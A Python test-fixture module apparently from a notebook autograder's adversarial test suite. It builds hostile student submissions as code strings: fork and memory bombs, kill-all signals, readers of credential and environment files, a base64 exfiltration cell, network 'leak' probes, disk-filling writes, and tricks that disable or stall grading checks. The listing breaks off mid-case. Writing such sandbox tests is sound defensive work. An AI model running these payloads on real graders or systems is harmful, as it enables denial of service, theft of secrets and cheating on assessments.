"""Hostile and broken submissions, one student each, for tests/batch/test_adversarial.py.

Each `Attack` says what it attacks, how its submission is built (`build` returns the files of
submitted/<student>/math_numpy/), the status coursekit.submissions.statuses must give the attacked
notebook, and which exercises of that notebook must score 0 (`zero`) or keep full marks (`keep`;
`keep_if_alive` only while the kernel survives; `load_dependent` exercises run while the attack
still loads the machine, so a cell timeout may cost them points in one run and not in another).
Attacks target 02_matrix_operations (8 exercises, 35 points, fast; one attacks 01, whose functions take
the test's functions); every exercise they do not attack holds the instructor's solution, and every
attacked exercise holds an attack or a wrong answer, so "scores 0 there" means the attack earned
nothing.  Nothing here runs on the host: attack code is only text put into notebooks, which run
inside the grading sandbox.
"""

import copy
import dataclasses
import textwrap
from collections.abc import Callable

import nbformat

from coursekit import notebooks
from coursekit.spec import EXERCISES as SPEC

NB = "02_matrix_operations"
NB_CALLBACK = "01_derivatives_and_gradients"  # the notebook whose functions take the test's functions
EXERCISES = SPEC[NB]  # in teaching order: "after" an exercise means the cells that run later

# Wrong answers that fail every test cell of their exercise with ordinary check failures (values,
# not errors), so that tampering with the checks would pay off if it worked.  The `wrong` control
# student proves each scores 0 untampered.
WRONG = {
    "scale": "def scale(a, s):\n    return a",
    "transpose": "def transpose(a):\n    return a",
    "matrix_add": "def matrix_add(a, b):\n    return a",
    "product_shape": "def product_shape(shape_a, shape_b):\n    return tuple(shape_a)",
    "matmul_loops": "def matmul_loops(a, b):\n    return np.ones((1, 1)) @ np.ones((1, 1))",
    "commutes": "def commutes(a, b):\n    return None",
    "matrix_subtract": "def matrix_subtract(a, b):\n    return a",
    "is_solution": "def is_solution(a, x, b):\n    return True",
}
assert set(WRONG) == set(EXERCISES), "a wrong answer for every exercise of the attacked notebook"


@dataclasses.dataclass
class Context:
    """What the builders need: the release, the reference solutions and the test's secrets."""
    release: dict       # notebook -> release NotebookNode
    solutions: dict     # notebook -> {grade_id: reference solution}
    course: str         # absolute path of the scratch course
    port: int           # the test's TCP listener on 127.0.0.1
    tag: str            # unique name for files the attacks try to create


@dataclasses.dataclass(frozen=True)
class Attack:
    student: str
    attacks: str                      # what it attacks
    how: str                          # how the submission is built
    build: Callable                   # Context -> {file name: bytes}
    states: tuple                     # acceptable states of the attacked notebook (02)
    reason: str = ""                  # text the status detail must contain
    zero: tuple = ()                  # exercises of 02 that must score 0
    keep: tuple = ()                  # exercises of 02 that must keep full marks
    keep_if_alive: tuple = ()         # ... as long as the kernel survived (state not "stopped")
    load_dependent: tuple = ()        # exercises whose score depends on the machine's load
    others: tuple = ()                # (notebook, state) of the others; default: every other one missing
    known_limit: str = ""             # set: the attack is known to succeed (documented limit)
    notebook: str = NB                # the attacked notebook (zero, keep, ... are its exercises)
    zero_cells: tuple = ()            # test cells (grade_ids) that must score 0 although their exercise may not
    withheld: bool | None = None      # whether coursekit-grade must withhold the notebook (None: not checked)
    # The sabotage run (tests/batch/test_adversarial.py) grades the cases denied by split grading or the
    # sandbox again with both turned off: each must then succeed. "" leaves a case out of it.
    denied_by: str = ""

    def expected_others(self):
        return dict(self.others) or {nb: "missing" for nb in SPEC if nb != self.notebook}


# ---------------------------------------------------------------- building blocks


def filled(ctx, answers=None, nb=NB, edit=None):
    """The release notebook with reference solutions, `answers` replacing some; `edit` mutates it."""
    node = notebooks.filled_in(ctx.release[nb], {**ctx.solutions[nb], **(answers or {})})
    node = copy.deepcopy(node)
    if edit:
        edit(node)
    return nbformat.writes(node).encode()


def one(ctx, answers=None, edit=None, name=None, nb=NB):
    return {name or f"{nb}.ipynb": filled(ctx, answers, nb=nb, edit=edit)}


def code_cell(source):
    return nbformat.v4.new_code_cell(textwrap.dedent(source).strip("\n"))


def index_of(node, grade_id):
    return next(i for i, c in enumerate(node.cells) if notebooks.grade_id(c) == grade_id)


def after_setup(*cells):
    """An edit that inserts plain (metadata-free) cells right after the setup cell."""
    def edit(node):
        at = index_of(node, "setup") + 1
        node.cells[at:at] = [code_cell(c) for c in cells]
    return edit


def test_ids(node, exercise):
    return [notebooks.grade_id(c) for c in node.cells
            if notebooks.is_test(c) and notebooks.grade_id(c).startswith(exercise + "_")]


# A notebook that can rebind names at run time (builtins, get_ipython, frames, sys.modules, ...) has no
# code the grader can read for certain: matmul_loops' code check then withholds it and pays nothing
# (checks.code_doubts), wherever in the notebook that code is.
CODE_CHECK = "matmul_loops_no_library_product"


def after(exercise):
    return tuple(EXERCISES[EXERCISES.index(exercise) + 1:])


def before(exercise):
    return tuple(EXERCISES[:EXERCISES.index(exercise)])


def but(*exercises, nb=NB):
    return tuple(e for e in SPEC[nb] if e not in exercises)


# ---------------------------------------------------------------- attack code (runs in the sandbox)

INFINITE_LOOP = """
def transpose(a):
    while True:
        pass
"""

SWALLOW_INTERRUPT = """
def transpose(a):
    while True:
        try:
            while True:
                pass
        except KeyboardInterrupt:
            pass
transpose(None)
"""

# 100 GB at once fails cleanly (MemoryError); the growing list fills the address space, and its
# traceback keeps it full, so the kernel may die at the next cells: it is the last exercise, so
# where exactly it dies changes no score (grading again must give the same grades).
MEMORY_BOMBS = {
    "product_shape": """
def product_shape(shape_a, shape_b):
    return bytearray(10**11)
""",
    "commutes": """
def commutes(a, b):
    hog = []
    while True:
        hog.append(bytearray(2**24))
""",
}

FORK_BOMB = """
import os

def bomb():
    try:
        while True:
            if os.fork() == 0:
                try:
                    while True:
                        os.fork()
                except BaseException:
                    pass
                while True:
                    pass
    except OSError as error:
        print("fork refused:", error)

bomb()
"""

OUTPUT_LOOP = """
for i in range(10**9):
    print(i, "flood " * 20)
"""

OUTPUT_BLOB = 'print("x" * 50_000_000)'

ERROR_BLOB = 'raise ValueError("x" * 5_000_000)'

SEGFAULT = "import ctypes\nctypes.string_at(0)"

ALWAYS_EQUAL = {
    "transpose": """
class Yes:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__

def transpose(a):
    return Yes()
""",
    "matrix_add": """
class Liar(np.ndarray):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __array_ufunc__(self, *args, **kwargs):
        return True
    def __bool__(self):
        return True
    __hash__ = object.__hash__

def matrix_add(a, b):
    return np.zeros(np.shape(a)).view(Liar)
""",
}

PATCH_ASSERTS = """
import numpy.testing
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_allclose = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
import builtins
builtins.AssertionError = type("Nope", (Exception,), {})
"""

HIDE_ERRORS = """
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
ip.showtraceback = lambda *args, **kwargs: None
import sys
sys.excepthook = lambda *args: None
sys.stderr = sys.stdout
"""

REBIND_CHECKS = """
expect_array = expect_bool = expect_value = call_unchanged = lambda *a, **k: None
"""

SKIP_TESTS = """
def _drop_tests(lines):
    return [] if lines and lines[0].startswith('\"\"\"Check') else lines
get_ipython().input_transformers_cleanup.append(_drop_tests)
"""


# ---------------------------------------------------------------- tampering with the tests (split grading)
# In one shared kernel each of these earned points: the tests ran where student code could reach
# them. Graded split (coursekit/grading/split/grader.py), test cells never enter the kernel.

WRONG_ALL = "\n\n".join(WRONG.values())

ALWAYS_EQUAL_CLASS = """
class Yes:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __bool__(self):
        return True
    __hash__ = object.__hash__
"""

# The first cell after the imports: every later cell (the solutions, the tests, the grader's own
# requests) runs `pass`, and every exercise returns an object equal to everything.
REPLACE_RUN_CELL = ALWAYS_EQUAL_CLASS + f"""
def _answer(*args, **kwargs):
    return Yes()
for _name in {list(EXERCISES)!r}:
    globals()[_name] = _answer
_shell = get_ipython()
_run_cell = _shell.run_cell
_shell.run_cell = lambda raw_cell, *args, **kwargs: _run_cell("pass", *args, **kwargs)
"""

# A tracer on every frame: wherever the checks' code runs, its `fail` becomes a no-op.
SETTRACE = """
import sys, threading
def _tracer(frame, event, arg):
    for space in (frame.f_globals, frame.f_locals):
        if "fail" in space and callable(space["fail"]):
            space["fail"] = lambda *args, **kwargs: None
    return _tracer
sys.settrace(_tracer)
sys.setprofile(_tracer)
threading.settrace(_tracer)
"""

# Walk every object of the interpreter and turn each function of the checks into a no-op.
GC_PATCH = """
import gc, types
def _nothing(*args, **kwargs):
    return None
for _obj in gc.get_objects():
    if isinstance(_obj, types.FunctionType) and _obj.__module__ in ("checks", "__main__") and _obj.__name__ in (
            "fail", "expect_array", "expect_bool", "expect_equal", "expect_raises", "call_unchanged", "passed"):
        try:
            _obj.__code__ = _nothing.__code__
        except ValueError:
            pass
"""

# The student's function reaches up its callers' frames and disarms the checks there.
FRAME_INSPECT = """
import sys
def scale(a, s):
    frame = sys._getframe(1)
    while frame is not None:
        for name in ("fail", "expect_array", "call_unchanged"):
            if name in frame.f_globals:
                frame.f_globals[name] = lambda *args, **kwargs: None
        frame = frame.f_back
    return a
"""

# Rebind builtins and NumPy in the kernel: everything is equal, close and an instance of anything.
PATCH_BUILTINS_NUMPY = """
import builtins
builtins.isinstance = lambda *args: True
builtins.all = builtins.any = lambda *args: True
builtins.abs = lambda *args: 0
np.allclose = np.array_equal = np.isclose = lambda *args, **kwargs: True
np.ndarray.__eq__ = lambda self, other: True
"""

DUNDER_TRICKS = {
    "scale": """
class Trick:
    def __init__(self, values):
        self.values = values
    def __array__(self, dtype=None, copy=None):
        return self.values
    def __float__(self):
        return 1.0
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__

def scale(a, s):
    return Trick(s * np.asarray(a))
""",
    "product_shape": """
class Shape(tuple):
    def __eq__(self, other):
        return True
    __hash__ = tuple.__hash__

def product_shape(shape_a, shape_b):
    return Shape((0, 0))
""",
    "commutes": """
class Maybe(float):
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True
    __hash__ = float.__hash__

def commutes(a, b):
    return Maybe(1.0)
""",
}

# Replies built to exhaust the grader: a 100 MB array, nesting 100 000 deep, a 50 MB string.
HUGE_REPLIES = {
    "transpose": "def transpose(a):\n    return np.ones(13_000_000)",
    "matrix_add": ("def matrix_add(a, b):\n    deep = []\n    for _ in range(100_000):\n        deep = [deep]\n"
                   "    return deep"),
    "matrix_subtract": "def matrix_subtract(a, b):\n    return 'x' * 50_000_000",
}

# Exceptions that lie: a class named ValueError that is not one, one named KeyboardInterrupt, and
# one whose message and name cannot be read.
LYING_EXCEPTIONS = {
    # The fake class lives inside the function: at module level it would also be what the
    # student's own matrix_subtract raises, and fairly cost that exercise too.
    "matrix_add": """
def matrix_add(a, b):
    ValueError = type("ValueError", (Exception,), {})
    raise ValueError("the shapes differ")
""",
    "is_solution": """
class KeyboardInterrupt(BaseException):
    pass

def is_solution(a, x, b):
    raise KeyboardInterrupt()
""",
    "commutes": """
class Weird(Exception):
    def __str__(self):
        raise RuntimeError("no message for you")

Weird.__name__ = "CheckFailed" * 1000

def commutes(a, b):
    raise Weird()
""",
}

# numerical_derivative (notebook 01) calls the test's function forever on its first call.
CALLBACK_FOREVER = """
_calls = []

def numerical_derivative(f, x, h=1e-5):
    _calls.append(1)
    if len(_calls) == 1:
        while True:
            f(x)
    return 0.0
"""

# A cell at the end gathers everything the kernel could know of the tests (its input history, every
# file it can read near it) and prints it base64-encoded into the student's own output and feedback.
EXFILTRATE_TESTS = """
import base64, glob, itertools, os
found = [str(cell) for cell in globals().get("In", [])]
for path in glob.glob("*") + glob.glob("../*") + glob.glob("../../*/*/*") + list(itertools.islice(
        glob.iglob("/tmp/**", recursive=True), 200)):
    try:
        with open(path, errors="replace") as file:
            found.append(file.read(2_000_000))
    except Exception:
        pass
print("LEAK:" + base64.b64encode("\\n".join(found).encode()[:300_000]).decode())  # within the output limit
"""


def at_end(*cells):
    """An edit that appends plain (metadata-free) cells at the end of the notebook."""
    def edit(node):
        node.cells += [code_cell(c) for c in cells]
    return edit


# Megabytes printed during each call (and straight to the kernel's file descriptor), wrong answer.
PRINT_FLOOD = """
import os
def transpose(a):
    print("x" * 3_000_000)
    os.write(1, b"y" * 3_000_000)
    return a
"""


def read_secrets(ctx):
    course = ctx.course
    return f'''
import glob, os
found = []
targets = [
    {course!r} + "/source/math_numpy/02_matrix_operations.ipynb",
    {course!r} + "/source/math_numpy/checks.py",
    {course!r} + "/source/CANARY.txt",
    {course!r} + "/CANARY.txt",
    {course!r} + "/gradebook.db",
    {course!r} + "/submitted/reference/math_numpy/02_matrix_operations.ipynb",
    {course!r} + "/autograded/reference/math_numpy/02_matrix_operations.ipynb",
    "../../../source/math_numpy/02_matrix_operations.ipynb",
    "../../../source/CANARY.txt",
    "../../../CANARY.txt",
    "../../../gradebook.db",
    "../../../submitted/reference/math_numpy/02_matrix_operations.ipynb",
    "../reference/math_numpy/02_matrix_operations.ipynb",
    "/work/main/source/math_numpy/02_matrix_operations.ipynb",
    "/work/main/gradebook.db",
    "/proc/1/environ",
    "/proc/self/environ",
    "/run/kernel/connection.json",
]
for top in ["/tmp", "/work", "/root", "/home", "/run", "/srv", "/opt", "/var"]:
    for pattern in ["/**/CANARY*", "/**/gradebook.db", "/**/source/math_numpy/*.ipynb"]:
        targets += glob.glob(top + pattern, recursive=True)
for path in targets:
    try:
        with open(path, "rb") as f:
            data = f.read(3000)
        print("READ", path, repr(data))
    except Exception as error:
        print("DENIED", path, type(error).__name__)
print("ENV", dict(os.environ))
for top in ["/", "/tmp", "..", "../..", "../../..", "/work", "/root", "/home"]:
    try:
        print("LIST", top, sorted(os.listdir(top))[:50])
    except Exception as error:
        print("DENIED", top, type(error).__name__)
'''


def network(ctx):
    return f'''
import socket
for host in ["127.0.0.1", "localhost", "::1", "10.0.2.2", "8.8.8.8"]:
    try:
        s = socket.create_connection((host, {ctx.port}), timeout=1)
        s.sendall(b"leak")
        print("CONNECTED", host)
    except Exception as error:
        print("NO NETWORK", host, type(error).__name__, error)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"leak", ("127.0.0.1", {ctx.port}))
    print("UDP sent (to the sandbox's own loopback)")
except Exception as error:
    print("NO UDP", type(error).__name__, error)
'''


def write_targets(ctx):
    """Host paths the write-outside attack tries to create (checked on the host afterwards)."""
    c, t = ctx.course, ctx.tag
    return [f"{c}/PWNED-{t}", f"{c}/source/math_numpy/PWNED-{t}", f"{c}/submitted/PWNED-{t}",
            f"/tmp/PWNED-{t}", f"/tmp/math-numpy-kernels/PWNED-{t}", f"/work/main/PWNED-{t}",
            f"{c}/autograded/atk-write-outside/math_numpy/PWNED-{t}"]


def write_outside(ctx):
    t = ctx.tag
    return f'''
import os
targets = {write_targets(ctx)!r} + [
    "../../../PWNED-{t}", "../../PWNED-{t}", "../PWNED-{t}", "./PWNED-{t}",
    "../../../submitted/reference/math_numpy/02_matrix_operations.ipynb", "checks.py",
]
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("pwned")
        print("WROTE", path)
    except Exception as error:
        print("BLOCKED", path, type(error).__name__)
for folder in ["/tmp/math-numpy-kernels", "/run/kernel", "/tmp", "."]:
    try:
        for name in os.listdir(folder):
            print("SEES", folder, name)
    except Exception as error:
        print("BLOCKED list", folder, type(error).__name__)
# Fill every writable folder: all of it must be size-limited memory, never the grader's disk.
for folder in ["/tmp/math-numpy-kernels", "/run/kernel", "/tmp", "."]:
    written = 0
    try:
        for k in range(4):
            with open(f"{{folder}}/fill-{t}-{{k}}", "wb") as f:
                for _ in range(60):
                    f.write(bytes(2**20))
                    written += 1
    except Exception as error:
        pass
    print("FILLED", folder, written, "MiB")
'''


# ---------------------------------------------------------------- file-level cases


def truncated(ctx):
    data = filled(ctx)
    return {f"{NB}.ipynb": data[: len(data) // 2]}


def duplicate(ctx):
    def edit(node):
        at = index_of(node, "scale_values")
        fake = copy.deepcopy(node.cells[at])
        fake.source = "pass"
        node.cells.insert(at, fake)
        sol = index_of(node, "transpose")
        node.cells.insert(sol + 1, copy.deepcopy(node.cells[sol]))
    return one(ctx, {"scale": WRONG["scale"], "transpose": WRONG["transpose"]}, edit)


def delete_tests(ctx):
    def edit(node):
        node.cells = [c for c in node.cells if not notebooks.grade_id(c) or not
                      (notebooks.is_test(c) and notebooks.grade_id(c).startswith("scale_"))]
    return one(ctx, {"scale": WRONG["scale"]}, edit)


def edit_tests(ctx):
    def edit(node):
        ids = test_ids(node, "transpose")
        node.cells[index_of(node, ids[0])].source = "pass"
        node.cells[index_of(node, ids[1])].source = "assert True"
    return one(ctx, {"transpose": WRONG["transpose"]}, edit)


def metadata(ctx):
    def edit(node):
        for gid in test_ids(node, "scale"):
            node.cells[index_of(node, gid)].metadata.nbgrader["points"] = 100
        first, second = test_ids(node, "transpose")
        node.cells[index_of(node, first)].metadata.nbgrader["grade"] = False
        node.cells[index_of(node, second)].metadata.nbgrader.update(grade=False, solution=True, locked=False)
        for gid in test_ids(node, "matrix_add"):
            node.cells[index_of(node, gid)].metadata.nbgrader.update(solution=True, locked=False)
        for gid in test_ids(node, "product_shape"):
            i = index_of(node, gid)
            node.cells[i] = nbformat.v4.new_markdown_cell(node.cells[i].source, metadata=node.cells[i].metadata)
        sol = node.cells[index_of(node, "matmul_loops")]
        sol.metadata.nbgrader.update(grade=True, points=50)
    wrong = {e: WRONG[e] for e in ("scale", "transpose", "matrix_add", "product_shape")}
    return one(ctx, wrong, edit)


def reader(ctx):
    """The untouched release with the secret reader in the scale cell and in an added cell."""
    node = copy.deepcopy(ctx.release[NB])
    at = index_of(node, "scale")
    node.cells[at].source = read_secrets(ctx)
    node.cells.insert(index_of(node, "setup") + 1, code_cell(read_secrets(ctx)))
    return {f"{NB}.ipynb": nbformat.writes(node).encode()}


def missing(ctx):
    return {f"{nb}.ipynb": filled(ctx, nb=nb) for nb in ("01_derivatives_and_gradients", "03_numpy_essentials")}


# ---------------------------------------------------------------- the notebook's own structure (issue 23)
# Split grading once trusted a test cell only if its source was exactly the gradebook's, and ran the
# setup cell in the grader only where the notebook had it: a re-added test cell (nbgrader puts a
# deleted one back with a comment line in front) ran in the student's kernel, and a test that ran
# before the setup cell fetched `fail`, `passed` and `expect_*` from the kernel.

# Permissive stand-ins for the checks, bound with := inside a comprehension (the scan saw no binding).
WALRUS_HELPERS = """
[((expect_array := lambda *a, **k: None), (expect_equal := lambda *a, **k: None),
  (expect_bool := lambda *a, **k: None), (expect_raises := lambda *a, **k: None),
  (call_unchanged := lambda f, *a, call=None, **k: f(*a)), (fail := lambda *a, **k: None),
  (passed := lambda *a, **k: print("All tests passed."))) for _ in [0]]
"""

# The same as plain definitions, for a notebook whose setup cell is moved below them or deleted.
# Notebook 01's formula and partial-derivative tests use no `np`: before the setup cell ran, the
# grader fetched every helper they call from the kernel, these included.
OWN_HELPERS = """
import numpy as np
def _nothing(*args, **kwargs):
    return None
expect_array = expect_equal = expect_bool = expect_raises = expect_number = fail = _nothing
expect_formula = expect_formula_at = right_at_point = _nothing
type_name = lambda value: "dict"
def call_unchanged(function, *args, call=None, **kwargs):
    return function(*args)
def passed():
    print("All tests passed.")
"""
# Wrong answers for the exercises of 01 whose tests need no `np`.
WRONG_01 = {
    "derivative_answers": 'derivative_answers = {"x**3": "x", "exp(2*x)": "x", "1/exp(x)": "x", "log(x**2 + 1)": "x", '
                          '"1/x**2": "x"}',
    "partial_answers": 'partial_answers = {"df/dx": "x", "df/dy": "x"}',
    "partials_sum": "def partials_sum(x, y):\n    return None",
    "partials_product": "def partials_product(x, y):\n    return None",
}


def readded_test(ctx):
    """scale's test cells deleted (nbgrader re-adds them), helpers rebound by :=, wrong scale()."""
    def edit(node):
        node.cells = [c for c in node.cells
                      if not (notebooks.is_test(c) and notebooks.grade_id(c).startswith("scale_"))]
        node.cells.insert(index_of(node, "setup") + 1, code_cell(WALRUS_HELPERS))
    return one(ctx, {"scale": WRONG["scale"]}, edit)


def unmarked_tests(ctx):
    """transpose's test cells stripped of their nbgrader metadata, helpers rebound by :=, wrong transpose()."""
    def edit(node):
        for gid in test_ids(node, "transpose"):
            node.cells[index_of(node, gid)].metadata = {}
        node.cells.insert(index_of(node, "setup") + 1, code_cell(WALRUS_HELPERS))
    return one(ctx, {"transpose": WRONG["transpose"]}, edit)


def setup_moved(ctx):
    """01: the setup cell moved to the end, the student's own permissive helpers first; wrong answers
    to the exercises whose tests use no `np`, the reference elsewhere."""
    def edit(node):
        setup = node.cells.pop(index_of(node, "setup"))
        node.cells.insert(0, code_cell(OWN_HELPERS))
        node.cells.append(setup)
    return one(ctx, WRONG_01, edit, nb=NB_CALLBACK)


def setup_deleted(ctx):
    """01: the setup cell replaced by the student's own permissive helpers; the same answers."""
    def edit(node):
        node.cells[index_of(node, "setup")] = code_cell(OWN_HELPERS)
    return one(ctx, WRONG_01, edit, nb=NB_CALLBACK)


def forged_test(ctx):
    """A cell claiming scale_values' id (locked, a grade cell, source `pass`) above the scale cell, the
    real one deleted; wrong scale()."""
    def edit(node):
        real = index_of(node, "scale_values")
        forged = copy.deepcopy(node.cells.pop(real))
        forged.source = "passed()"
        node.cells.insert(index_of(node, "scale"), forged)
    return one(ctx, {"scale": WRONG["scale"]}, edit)


# ---------------------------------------------------------------- call-backs (notebook 01)
# The test's own functions run in the grading process when the student's code calls them back.
# With the student's keyword arguments, np.exp(x, where=False) handed back uninitialised memory of
# the grader (other notebooks' hidden tests, the reference solution). The attack prints what it gets.
CALLBACK_ABUSE = {
    "chain_rule": """
import numpy as np
def chain_rule(df_outer, f_inner, df_inner):
    def derivative(x):
        found = []
        for how in ("where", "out", "many", "function"):
            try:
                if how == "where":
                    value = df_outer(np.zeros(4), where=False)
                elif how == "out":
                    value = df_outer(np.zeros(4), np.zeros(4))
                elif how == "many":
                    value = df_outer(1.0, 2.0, 3.0)
                else:
                    value = df_outer(chain_rule)
                found.append(f"GOT {how} {np.asarray(value).tobytes()[:64]!r}")
            except Exception as error:
                found.append(f"REFUSED {how}: {error}")
        print("\\n".join(found))
        return 0.0
    return derivative
""",
    "numerical_derivative": """
import numpy as np
def numerical_derivative(f, x, h=1e-5):
    try:
        leak = f(np.zeros(100_000), where=np.zeros(100_000, dtype=bool))
        print("GOT", np.asarray(leak).tobytes()[:200])
    except Exception as error:
        print("REFUSED where:", error)
    return 0.0
""",
}


# ---------------------------------------------------------------- replies that cost the grader time
# A reply's cost must be linear in its size and counted in the call's time limit.

# Built as text and typed by input() past the agent: a kernel that builds such a set itself pays
# the n*n comparisons, within its own time limit.
HASH_PILEUP = {
    # 40 000 integers that all hash alike (hash(n) is n modulo 2**61 - 1), within the wire's 50 000 values:
    # a set of them, and a dict of 20 000 (800 million comparisons before the fix, at least a minute).
    "transpose": """
import builtins, json, sys
def transpose(a):
    keys = [["int", str(1 + k * (2**61 - 1))] for k in range(40_000)]
    reply = ["dict", [[["str", "kind"], ["str", "reply"]], [["str", "result"], ["set", keys]]]]
    builtins.input(sys.modules["_grading_agent"].MARK + json.dumps(reply))
    return a
""",
    "matrix_add": """
import builtins, json, sys
def matrix_add(a, b):
    pairs = [[["int", str(1 + k * (2**61 - 1))], ["none"]] for k in range(20_000)]
    reply = ["dict", [[["str", "kind"], ["str", "reply"]], [["str", "result"], ["dict", pairs]]]]
    builtins.input(sys.modules["_grading_agent"].MARK + json.dumps(reply))
    return a
""",
}

# Error messages that make a regular expression with `.*` between two words backtrack, once through
# the agent (which cuts a message to 20 000 characters) and once past it: a reply typed by input()
# with a 680 000-character message and 300 tracebacks lines of 20 000.
REGEX_STALL = {
    "scale": """
def scale(a, s):
    raise TypeError("Cannot interpret " * 40_000)
""",
    "product_shape": """
import builtins, sys
def product_shape(shape_a, shape_b):
    agent = sys.modules["_grading_agent"]
    error = {"type": "IndexError", "name": "IndexError", "message": "axis " * 136_000,
             "traceback": ["Cell In[1], line " + "1" * 19_000] * 300}
    builtins.input(agent.MARK + agent.dumps({"kind": "reply", "error": error}))
    return (0, 0)
""",
}

# Signed IOPub messages of 40 MB each, sent from the transpose cell while it runs: nbclient's
# socket took any size and queued any number (with 200 MB messages and the default 2 GiB for the
# kernel, the grading process passed 2.5 GiB). Here the kernel has 1 GiB: eight of 40 MB.
IOPUB_FLOOD = """
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
text = "x" * 40_000_000
for _ in range(8):
    kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": text}, parent=parent)
"""


# ---------------------------------------------------------------- code that hides a library product
# matmul_loops must compute each entry in loops. Its check reads the code; what it cannot read for
# certain must be withheld for review, not paid (2 points each before).
MATMUL_LOOPS_DEF = """
def matmul_loops(a, b):
    a = np.asarray(a, dtype=float)
    b = np.asarray(b, dtype=float)
    if a.shape[1] != b.shape[0]:
        raise ValueError("incompatible shapes")
    c = np.zeros((a.shape[0], b.shape[1]))
    for i in range(a.shape[0]):
        for j in range(b.shape[1]):
            for k in range(a.shape[1]):
                c[i, j] += a[i, k] * b[k, j]
    return c
"""

HIDDEN_PRODUCTS = {
    "rebound": MATMUL_LOOPS_DEF + """

def _fast(a, b):
    a = np.asarray(a, dtype=float)
    b = np.asarray(b, dtype=float)
    if a.shape[1] != b.shape[0]:
        raise ValueError("incompatible shapes")
    return np.matmul(a, b)

matmul_loops = _fast
""",
    "getattr": """
def matmul_loops(a, b):
    a = np.asarray(a, dtype=float)
    b = np.asarray(b, dtype=float)
    if a.shape[1] != b.shape[0]:
        raise ValueError("incompatible shapes")
    c = np.zeros((a.shape[0], b.shape[1]))
    for i in range(a.shape[0]):
        for j in range(b.shape[1]):
            c[i, j] = getattr(np, "mat" "mul")(a[i], b[:, j]) * 1
    return c
""",
    "new-routine": """
def matmul_loops(a, b):
    a = np.asarray(a, dtype=float)
    b = np.asarray(b, dtype=float)
    if a.shape[1] != b.shape[0]:
        raise ValueError("incompatible shapes")
    c = np.zeros((a.shape[0], b.shape[1]))
    for i in range(a.shape[0]):
        for j in range(b.shape[1]):
            c[i, j] = np.linalg.vecdot(a[i], b[:, j]) * 1
    return c
""",
    "correlate": """
def matmul_loops(a, b):
    a = np.asarray(a, dtype=float)
    b = np.asarray(b, dtype=float)
    if a.shape[1] != b.shape[0]:
        raise ValueError("incompatible shapes")
    c = np.zeros((a.shape[0], b.shape[1]))
    for i in range(a.shape[0]):
        for j in range(b.shape[1]):
            c[i, j] = np.correlate(a[i], b[:, j])[0] * 1
    return c
""",
    "walrus": MATMUL_LOOPS_DEF + """

[matmul_loops := (lambda a, b: np.asarray(a, dtype=float) @ np.asarray(b, dtype=float)) for _ in [0]]
""",
}


# ---------------------------------------------------------------- the cases

ATTACKS = [
    Attack("atk-infinite-loop", "per-cell time limit",
           "transpose() loops forever (interruptible)",
           lambda ctx: one(ctx, {"transpose": INFINITE_LOOP}),
           ("timed out",), "transpose_", zero=("transpose",), keep=but("transpose")),
    Attack("atk-swallow-interrupt", "notebook time limit",
           "the transpose cell loops forever and swallows KeyboardInterrupt",
           lambda ctx: one(ctx, {"transpose": SWALLOW_INTERRUPT}),
           ("stopped",), "time limit", zero=("transpose",) + after("transpose"), keep=("scale",)),
    Attack("atk-memory-bomb", "memory limit (RLIMIT_AS)",
           "product_shape() allocates 100 GB; commutes() grows a list of 16 MiB blocks",
           lambda ctx: one(ctx, MEMORY_BOMBS),
           ("graded", "stopped"), "", zero=("product_shape", "commutes"), keep=but("product_shape", "commutes")),
    Attack("atk-fork-bomb", "process limit (RLIMIT_NPROC)",
           "the commutes cell forks until refused; children fork again, then spin",
           lambda ctx: one(ctx, {"commutes": FORK_BOMB}),
           ("graded", "timed out", "stopped"), "", zero=("commutes",), keep=before("commutes"),
           # The bomb's children spin until the notebook ends: later cells may hit their timeout.
           load_dependent=after("commutes")),
    Attack("atk-output-loop", "output limit",
           "the transpose cell prints in an endless loop",
           lambda ctx: one(ctx, {"transpose": OUTPUT_LOOP}),
           ("stopped",), "printed more than", zero=("transpose",) + after("transpose"), keep=("scale",)),
    Attack("atk-output-blob", "output limit",
           "the transpose cell prints one 50 MB string",
           lambda ctx: one(ctx, {"transpose": OUTPUT_BLOB}),
           ("stopped",), "printed more than", zero=("transpose",) + after("transpose"), keep=("scale",)),
    Attack("atk-error-blob", "output limit (error path)",
           "the transpose cell raises an error whose message is 5 MB",
           lambda ctx: one(ctx, {"transpose": ERROR_BLOB}),
           ("stopped",), "printed more than", zero=("transpose",) + after("transpose"), keep=("scale",)),
    Attack("atk-sys-exit", "kernel exit",
           "sys.exit() at top level of the transpose cell",
           lambda ctx: one(ctx, {"transpose": "import sys\nsys.exit()"}),
           ("graded", "stopped"), "", zero=("transpose",), keep=("scale",), keep_if_alive=after("transpose")),
    Attack("atk-os-exit", "kernel exit",
           "os._exit(0) in the transpose cell",
           lambda ctx: one(ctx, {"transpose": "import os\nos._exit(0)"}),
           ("stopped",), "exited", zero=("transpose",) + after("transpose"), keep=("scale",)),
    Attack("atk-segfault", "kernel crash",
           "ctypes.string_at(0) in the transpose cell",
           lambda ctx: one(ctx, {"transpose": SEGFAULT}),
           ("stopped",), "segmentation fault", zero=("transpose",) + after("transpose"), keep=("scale",)),
    Attack("atk-kill-all", "signals to other processes",
           "os.kill(-1, SIGKILL) in the transpose cell: kill everything it can",
           lambda ctx: one(ctx, {"transpose": "import os, signal\nos.kill(-1, signal.SIGKILL)"}),
           ("graded", "stopped"), "", zero=("transpose",), keep=("scale",), keep_if_alive=after("transpose")),
    Attack("atk-delete-tests", "test cells",
           "wrong scale(); both scale test cells deleted",
           delete_tests, ("graded",), "", zero=("scale",), keep=but("scale"), withheld=True),
    Attack("atk-edit-tests", "locked test cells",
           "wrong transpose(); its test cells edited to `pass` and `assert True`",
           edit_tests, ("graded",), "", zero=("transpose",), keep=but("transpose"), withheld=True),
    Attack("atk-metadata", "cell metadata",
